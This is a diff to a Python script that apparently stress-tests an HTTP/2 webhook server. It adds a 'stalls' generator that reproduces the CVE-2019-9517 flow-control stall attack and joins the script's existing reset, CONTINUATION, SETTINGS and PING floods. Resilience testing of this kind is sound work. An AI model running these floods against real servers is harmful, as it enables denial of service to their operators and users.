@@ -22,6 +22,7 @@ PAUSE = 0.01
 PATHS = ["/", "/validate", "/mutate-scc", "/validate-scc", "/metrics", "/readyz", "/livez", "/nowhere", "/%00", "*"]
 # POST /validate, in HPACK.
 HEADER, FLOOD = b"\x83\x87\x04\x09/validate\x01\x01x", 200 << 20
+METRICS = b"\x82\x87\x04\x08/metrics\x01\x01x"
 end = time.time() + SECONDS
 counts, lock = collections.Counter(), threading.Lock()
 
@@ -298,10 +299,22 @@ def pings():
         yield frame(6, 0, 0, b"12345678") * 500
 
 
+def stalls():
+    """Answers for which there is no room, or room for one byte of each (CVE-2019-9517), on a connection that goes on."""
+    yield frame(4, 0, 0, struct.pack(">HI", 4, random.randint(0, 1)))
+    for stream in range(1, 201, 2):
+        yield frame(1, 5, stream, METRICS)
+    for stream in range(201, 281, 2):
+        time.sleep(1)
+        yield frame(1, 5, stream, METRICS) + frame(3, 0, stream, struct.pack(">I", 8))
+    # That is four times as long as anybody is waited for.
+    raise TimeoutError
+
+
 def flood(replicas):
     """HTTP/2 as nobody means it, whose answers nobody reads. The server hangs up; in any case before this much is sent."""
     while time.time() < end:
-        kind = random.choice([resets, continuations, settings, pings])
+        kind = random.choice([resets, continuations, settings, pings, stalls])
         try:
             secure = context()
             secure.set_alpn_protocols(["h2"])
